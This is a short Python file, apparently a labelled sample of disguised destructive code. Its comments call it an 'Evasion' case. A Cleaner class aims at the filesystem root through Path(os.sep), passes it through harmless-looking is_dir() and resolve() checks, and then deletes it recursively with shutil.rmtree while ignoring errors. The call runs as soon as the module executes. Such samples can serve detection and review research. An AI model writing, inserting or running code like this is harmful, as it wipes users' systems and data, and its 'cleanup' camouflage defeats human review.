# Evasion: deletes the whole file system recursively.
# Hiding: the target is an object's attribute built as Path(os.sep) and only
# checked through its methods (self.base.is_dir(), self.base.resolve())
# before a "cleanup" removes it.
import os
import shutil
from pathlib import Path


class Cleaner:
    def __init__(self):
        self.base = Path(os.sep)

    def run(self):
        if self.base.is_dir() and self.base.resolve():
            shutil.rmtree(self.base, ignore_errors=True)


Cleaner().run()
